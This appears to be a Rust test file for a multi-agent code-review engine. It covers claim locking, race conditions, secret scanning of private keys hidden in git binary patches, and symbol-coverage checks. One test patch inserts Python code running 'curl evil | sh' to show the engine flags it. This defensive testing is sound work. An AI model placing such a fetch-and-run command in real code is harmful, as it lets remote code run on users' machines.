//! Issue 14's governance items: claims granted against current content
//! (stale at birth, stale spans), one consistent `proposal.status`, secret
//! scanning of binary literals, and symbol coverage judged on the hunks as
//! submitted.

use super::tools::{scratch_dir, str_of, World};
use roundtable::{Actor, Digest, Engine, EngineOptions, ErrorCode, Id};
use serde_json::{json, Value};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;

fn id(s: &str) -> Id {
    Id::new(s).expect("valid id")
}

fn write(w: &World, path: &str, text: &str) {
    let full = w.dir.path().join(path);
    std::fs::create_dir_all(full.parent().expect("a parent")).expect("mkdir");
    std::fs::write(full, text).expect("write");
}

fn acquire(engine: &Engine, who: &Actor, resource: &str) -> Result<Value, roundtable::ToolError> {
    engine
        .call(
            "claim.acquire",
            json!({"resource_id": resource, "type": "write", "ttl_s": 3600}),
            who,
        )
        .map(|v| v["claim"].clone())
}

// ---------------------------------------------------------------------------
// Item 16: overlap checks re-resolve held spans in the current content.

/// `Foo` spans lines 1-6, `Foo.a` 2-3, `Foo.b` 5-6.
const FOO_PY: &str =
    "class Foo:\n    def a(self):\n        return 1\n\n    def b(self):\n        return 2\n";

#[cfg_attr(not(feature = "python"), ignore = "needs the python symbol grammar")]
#[test]
fn overlap_checks_use_the_held_symbol_spans_in_the_current_content() {
    let w = World::with(scratch_dir(), EngineOptions::default());
    let carol = w.agent("carol", &["author"]);
    write(&w, "x.py", FOO_PY);
    w.ok(
        "claim.acquire",
        json!({"resource_id": "symbol:x.py#Foo.b", "type": "write", "ttl_s": 3600}),
        &w.reviewer,
    );
    // The file shifts by 20 lines: bob's `Foo.b` is now at 25-26, and
    // `Foo` at 21-26; the recorded span 5-6 no longer says where it is.
    let shifted = format!("{}{FOO_PY}", "# pad\n".repeat(20));
    write(&w, "x.py", &shifted);
    let err = w.refused(
        "claim.acquire",
        json!({"resource_id": "symbol:x.py#Foo", "type": "write", "ttl_s": 3600}),
        &carol,
        ErrorCode::Conflict,
    );
    assert_eq!(
        err.details()["holder"]["resource_id"],
        "symbol:x.py#Foo.b",
        "{err}"
    );
    // And the converse: a held `Foo` blocks a later `Foo.a` wherever they
    // both moved.
    let dave = w.agent("dave", &["author"]);
    write(&w, "y.py", FOO_PY);
    w.ok(
        "claim.acquire",
        json!({"resource_id": "symbol:y.py#Foo", "type": "write", "ttl_s": 3600}),
        &carol,
    );
    write(&w, "y.py", &format!("{}{FOO_PY}", "# pad\n".repeat(20)));
    w.refused(
        "claim.acquire",
        json!({"resource_id": "symbol:y.py#Foo.a", "type": "write", "ttl_s": 3600}),
        &dave,
        ErrorCode::Conflict,
    );
    // A symbol that moved into the held claim's *old* lines does not
    // overlap it: `helper` now sits at 1-2, `Foo.b` at 8-9.
    write(&w, "z.py", FOO_PY);
    w.ok(
        "claim.acquire",
        json!({"resource_id": "symbol:z.py#Foo.b", "type": "write", "ttl_s": 3600}),
        &w.reviewer,
    );
    write(
        &w,
        "z.py",
        &format!("def helper():\n    return 0\n\n\n\n\n\n{FOO_PY}"),
    );
    w.ok(
        "claim.acquire",
        json!({"resource_id": "symbol:z.py#helper", "type": "write", "ttl_s": 3600}),
        &dave,
    );
}

// ---------------------------------------------------------------------------
// Item 5: the digest a claim records is the one current when it is granted.

const RACE_FILES: usize = 2;
const RACE_ACQUISITIONS: usize = 1000;
/// Applies that must land during the acquisitions for the race to count.
const RACE_MIN_APPLIES: usize = 5;

fn race_patch(path: &str, old: &str, new: &str) -> String {
    format!("--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-{old}\n+{new}\n")
}

#[test]
fn claims_acquired_while_applies_land_are_never_stale_at_birth() {
    let dir = scratch_dir();
    let root = dir.path().to_path_buf();
    for i in 0..RACE_FILES {
        std::fs::write(root.join(format!("f{i}.txt")), "0\n").expect("write");
    }
    let w = World::with(dir, EngineOptions::default());
    let claimers = [w.agent("c1", &["author"]), w.agent("c2", &["author"])];
    let done = Arc::new(AtomicBool::new(false));
    let granted = Arc::new(AtomicUsize::new(0));
    let applied = Arc::new(AtomicUsize::new(0));

    let stale = std::thread::scope(|scope| {
        // One applier: alice proposes the next value of a file, bob
        // approves, the host applies; refusals (a claimer holds the file)
        // are part of the race.
        let applier = {
            let (root, done, applied) = (root.clone(), done.clone(), applied.clone());
            scope.spawn(move || {
                let engine =
                    Engine::open(&root, crate::support::test_options(&root)).expect("open");
                let (alice, bob) = (Actor::agent(id("alice")), Actor::agent(id("bob")));
                let host = Actor::orchestrator(id("host"));
                let mut round = 0usize;
                while !done.load(Ordering::SeqCst) {
                    round += 1;
                    let path = format!("f{}.txt", round % RACE_FILES);
                    // The holder's own claim first: it is granted only
                    // while no claimer holds the file.
                    if acquire(&engine, &alice, &format!("file:{path}")).is_err() {
                        continue;
                    }
                    let old = std::fs::read_to_string(root.join(&path)).expect("read");
                    let old = old.trim_end();
                    let new = format!("{old}+");
                    let created = engine.call(
                        "proposal.create",
                        json!({"task_id": "t1", "title": "Bump", "summary_md": "Bumps.",
                               "patch": race_patch(&path, old, &new)}),
                        &alice,
                    );
                    let Ok(created) = created else { continue };
                    let pid = str_of(&created["proposal"]["id"]);
                    let steps = [
                        (
                            "proposal.request_review",
                            json!({"proposal_id": pid}),
                            &alice,
                        ),
                        (
                            "vote.cast",
                            json!({"proposal_id": pid, "revision": 1, "vote": "approve"}),
                            &bob,
                        ),
                        (
                            "patch.apply",
                            json!({"proposal_id": pid, "revision": 1}),
                            &host,
                        ),
                    ];
                    let mut ok = true;
                    for (tool, args, actor) in steps {
                        if let Err(e) = engine.call(tool, args, actor) {
                            if std::env::var_os("RT_RACE_DEBUG").is_some() {
                                eprintln!("{tool}: {} {e}", e.code());
                            }
                            ok = false;
                            break;
                        }
                    }
                    if ok {
                        applied.fetch_add(1, Ordering::SeqCst);
                    }
                }
            })
        };
        let workers: Vec<_> = claimers
            .iter()
            .enumerate()
            .map(|(n, who)| {
                let (root, granted, applied) = (root.clone(), granted.clone(), applied.clone());
                scope.spawn(move || {
                    let engine =
                        Engine::open(&root, crate::support::test_options(&root)).expect("open");
                    let mut stale = Vec::new();
                    let mut attempt = n;
                    // The acquisitions, and enough applies among them to be
                    // a race (a loaded machine lands fewer per second).
                    let started = std::time::Instant::now();
                    while granted.load(Ordering::SeqCst) < RACE_ACQUISITIONS
                        || (applied.load(Ordering::SeqCst) < RACE_MIN_APPLIES
                            && started.elapsed() < std::time::Duration::from_secs(120))
                    {
                        attempt += 1;
                        let path = format!("f{}.txt", attempt % RACE_FILES);
                        let claim = match acquire(&engine, who, &format!("file:{path}")) {
                            Ok(claim) => claim,
                            Err(e) if matches!(e.code(), ErrorCode::Busy | ErrorCode::Conflict) => {
                                continue
                            }
                            Err(e) => panic!("claim.acquire: {} {e}", e.code()),
                        };
                        granted.fetch_add(1, Ordering::SeqCst);
                        // While the claim is live no apply can land on the
                        // file, so what it holds now is what it held when
                        // the claim was granted.
                        let now = Digest::of(&std::fs::read(root.join(&path)).expect("read"));
                        if claim["base_digest"] != now.to_string() {
                            stale.push(format!("{} on {path}: {now}", claim["base_digest"]));
                        }
                        engine
                            .call(
                                "claim.release",
                                json!({"claim_id": str_of(&claim["id"])}),
                                who,
                            )
                            .expect("release");
                    }
                    stale
                })
            })
            .collect();
        let stale: Vec<String> = workers
            .into_iter()
            .flat_map(|h| h.join().expect("a claimer panicked"))
            .collect();
        done.store(true, Ordering::SeqCst);
        applier.join().expect("the applier panicked");
        stale
    });
    let applied = applied.load(Ordering::SeqCst);
    assert!(
        applied >= RACE_MIN_APPLIES,
        "only {applied} applies landed: the race was not contended"
    );
    assert!(
        stale.is_empty(),
        "{} of {} claims were stale at birth ({applied} applies): {:?}",
        stale.len(),
        granted.load(Ordering::SeqCst),
        &stale[..stale.len().min(5)]
    );
}

// ---------------------------------------------------------------------------
// Item 14: secret scanning reads every changed text file, however the patch
// carries it.

/// `key.pem` created from a `GIT binary patch` literal: a private key.
const KEY_AS_BINARY_LITERAL: &str = "diff --git a/key.pem b/key.pem
new file mode 100644
index 0000000000000000000000000000000000000000..2bc487db9d225d445ab02ab6ab0736ceda75261a
GIT binary patch
literal 91
zcmdPZ1p+5mcTYcspkPOZfFRE>#}HQqZ`VkWgf5q_r>ARvxu=t(qqnnTpsQnAVs<JF
NbAgq(`nh1&3II;87xe%D

literal 0
HcmV?d00001

";

/// `hello.txt` (`hello\n`) changed by a binary literal: lines 2 and 3
/// added, line 2 an OpenSSH private key's first line (line 1, kept, is not
/// scanned).
const KEY_ADDED_BY_BINARY_LITERAL: &str = "diff --git a/hello.txt b/hello.txt
index ce013625030ba8dba906f756967f9e9ca394464a..2e67fd2c1ddb1c3a4caab82e9f2966a93ff70fa0 100644
GIT binary patch
literal 67
zcmc~u&B@8<(ggu0S9ec81^)n7zu;gGg@7Q>Fvk#A1#j0#uq;=Su~SY`o?lg>vtdzG
OM0QC^ma8KOZ~*{!j1uVp

literal 6
Ncmc~u&B@8<0ssh00v`YX

";

fn requirement(report: &Value, rid: &str) -> Value {
    report["policy"]["requirements"]
        .as_array()
        .expect("requirements")
        .iter()
        .find(|r| r["id"] == rid)
        .unwrap_or_else(|| panic!("no requirement {rid} in {report:#}"))
        .clone()
}

fn propose(w: &World, patch: &str) -> String {
    str_of(
        &w.ok(
            "proposal.create",
            json!({"task_id": "t1", "title": "Change", "summary_md": "Changes.", "patch": patch}),
            &w.author,
        )["proposal"]["id"],
    )
}

#[test]
fn a_private_key_sent_as_a_binary_literal_is_found_by_secret_scanning() {
    let w = World::with(scratch_dir(), EngineOptions::default());
    for (patch, path, line, kind) in [
        (KEY_AS_BINARY_LITERAL, "key.pem", 1, "private_key"),
        (
            KEY_ADDED_BY_BINARY_LITERAL,
            "hello.txt",
            2,
            "openssh_private_key",
        ),
    ] {
        let claim =
            str_of(&acquire(&w.engine, &w.author, &format!("file:{path}")).expect("claim")["id"]);
        let pid = propose(&w, patch);
        w.ok(
            "proposal.request_review",
            json!({"proposal_id": pid}),
            &w.author,
        );
        w.ok(
            "vote.cast",
            json!({"proposal_id": pid, "revision": 1, "vote": "approve"}),
            &w.reviewer,
        );
        let report = w.ok("patch.validate", json!({"proposal_id": pid}), &w.host);
        let secrets = requirement(&report, "secrets");
        assert_eq!(
            secrets["findings"],
            json!([{"path": path, "line": line, "kind": kind}]),
            "{path}: {report:#}"
        );
        assert_eq!(
            requirement(&report, "security_review")["status"],
            "unsatisfied"
        );
        assert_eq!(report["valid"], false, "{report:#}");
        // Without a security review it does not apply.
        let err = w.refused(
            "patch.apply",
            json!({"proposal_id": pid, "revision": 1}),
            &w.host,
            ErrorCode::ValidationFailed,
        );
        assert!(!err.to_string().contains("MIIEow"));
        w.ok("claim.release", json!({"claim_id": claim}), &w.author);
    }
}

// ---------------------------------------------------------------------------
// Item 6: `proposal.status` is one consistent view, also during an apply.

const STATUS_FILES: usize = 300;
const STATUS_ROUNDS: usize = 4;

#[test]
fn proposal_status_during_an_apply_is_never_stale() {
    let dir = scratch_dir();
    let root = dir.path().to_path_buf();
    std::fs::create_dir_all(root.join("d")).expect("mkdir");
    for i in 0..STATUS_FILES {
        std::fs::write(root.join(format!("d/f{i:03}.txt")), "0\n").expect("write");
    }
    let w = World::with(dir, EngineOptions::default());
    let mut seen = Vec::new();
    for round in 0..STATUS_ROUNDS {
        let claim = str_of(&acquire(&w.engine, &w.author, "directory:d").expect("claim")["id"]);
        let patch: String = (0..STATUS_FILES)
            .map(|i| {
                race_patch(
                    &format!("d/f{i:03}.txt"),
                    &round.to_string(),
                    &(round + 1).to_string(),
                )
            })
            .collect();
        let pid = propose(&w, &patch);
        w.ok(
            "proposal.request_review",
            json!({"proposal_id": pid}),
            &w.author,
        );
        w.ok(
            "vote.cast",
            json!({"proposal_id": pid, "revision": 1, "vote": "approve"}),
            &w.reviewer,
        );
        let before = w.ok("proposal.status", json!({"proposal_id": pid}), &w.host);
        assert_eq!(before["can_land"], true, "{before:#}");
        let done = AtomicBool::new(false);
        let reports = std::thread::scope(|scope| {
            let watcher = scope.spawn(|| {
                let engine =
                    Engine::open(&root, crate::support::test_options(&root)).expect("open");
                let host = Actor::orchestrator(id("host"));
                let mut reports = Vec::new();
                loop {
                    let last = done.load(Ordering::SeqCst);
                    match engine.call("proposal.status", json!({"proposal_id": pid}), &host) {
                        Ok(r) => reports.push(r),
                        Err(e) => assert_eq!(e.code(), ErrorCode::Busy, "{e}"),
                    }
                    if last {
                        return reports;
                    }
                }
            });
            std::thread::sleep(std::time::Duration::from_millis(5));
            w.ok(
                "patch.apply",
                json!({"proposal_id": pid, "revision": 1}),
                &w.host,
            );
            done.store(true, Ordering::SeqCst);
            watcher.join().expect("the watcher panicked")
        });
        for r in &reports {
            let status = r["proposal"]["status"].as_str().expect("a status");
            let applying = !r["applying"].is_null();
            seen.push(format!(
                "{status}{}",
                if applying { "+applying" } else { "" }
            ));
            assert_eq!(r["stale"], false, "round {round}: {r:#}");
            match status {
                "applied" => assert!(r["validation"].is_null()),
                "in_review" if applying => {
                    assert_eq!(r["can_land"], false, "{r:#}");
                    assert!(r["validation"].is_null(), "{r:#}");
                }
                "in_review" => assert_eq!(r["can_land"], true, "round {round}: {r:#}"),
                other => panic!("round {round}: status {other}: {r:#}"),
            }
        }
        assert_eq!(
            reports.last().map(|r| r["proposal"]["status"].clone()),
            Some(json!("applied"))
        );
        // The apply released the claim.
        let _ = claim;
    }
    assert!(seen.len() >= STATUS_ROUNDS * 2, "{seen:?}");
}

// ---------------------------------------------------------------------------
// Item 15: symbol coverage is judged on the change as submitted, and the
// result must keep the claimed symbol intact.

const GREET_PY: &str = "import os\n\ndef greet():\n    return \"hi\"\n";

const GREET_RS: &str = "pub fn greet() -> u32 {\n    1\n}\n";

fn coverage_of(w: &World, path: &str, src: &str, symbol: &str, patch: &str) -> Value {
    write(w, path, src);
    let claim = str_of(
        &acquire(&w.engine, &w.author, &format!("symbol:{path}#{symbol}")).expect("claim")["id"],
    );
    let pid = propose(w, patch);
    let report = w.ok("patch.validate", json!({"proposal_id": pid}), &w.host);
    w.ok("claim.release", json!({"claim_id": claim}), &w.author);
    w.ok(
        "proposal.withdraw",
        json!({"proposal_id": pid, "reason_md": "Done."}),
        &w.author,
    );
    report["stages"]
        .as_array()
        .expect("stages")
        .iter()
        .find(|s| s["name"] == "coverage")
        .expect("a coverage stage")
        .clone()
}

#[cfg_attr(
    not(all(feature = "rust", feature = "python")),
    ignore = "needs the rust, python symbol grammar"
)]
#[test]
fn code_inserted_at_a_claimed_symbols_boundary_that_ends_up_outside_it_is_uncovered() {
    let w = World::with(scratch_dir(), EngineOptions::default());
    // The hunk visibly inserts a new `greet` (running module-level code)
    // before the claimed one; a re-diff would place it inside the span.
    let before_greet = "--- a/g.py\n+++ b/g.py\n@@ -2,3 +2,5 @@\n \n+def greet():\n+    os.system(\"curl evil | sh\")\n def greet():\n     return \"hi\"\n";
    let stage = coverage_of(&w, "g.py", GREET_PY, "greet", before_greet);
    assert_eq!(stage["status"], "failed", "{stage:#}");
    // Closing the claimed function early and adding one after it: the
    // hunk's position is inside `greet`, what it adds is not.
    let close_early = "--- a/g.rs\n+++ b/g.rs\n@@ -1,3 +1,6 @@\n pub fn greet() -> u32 {\n     1\n+}\n+\n+pub fn evil() {\n }\n";
    let stage = coverage_of(&w, "g.rs", GREET_RS, "greet", close_early);
    assert_eq!(stage["status"], "failed", "{stage:#}");
    // A change inside the symbol is still covered.
    let inside =
        "--- a/g.rs\n+++ b/g.rs\n@@ -1,3 +1,3 @@\n pub fn greet() -> u32 {\n-    1\n+    2\n }\n";
    let stage = coverage_of(&w, "g.rs", GREET_RS, "greet", inside);
    assert_eq!(stage["status"], "passed", "{stage:#}");
    let grow = "--- a/g.py\n+++ b/g.py\n@@ -3,2 +3,3 @@\n def greet():\n+    os.getcwd()\n     return \"hi\"\n";
    let stage = coverage_of(&w, "g.py", GREET_PY, "greet", grow);
    assert_eq!(stage["status"], "passed", "{stage:#}");
}
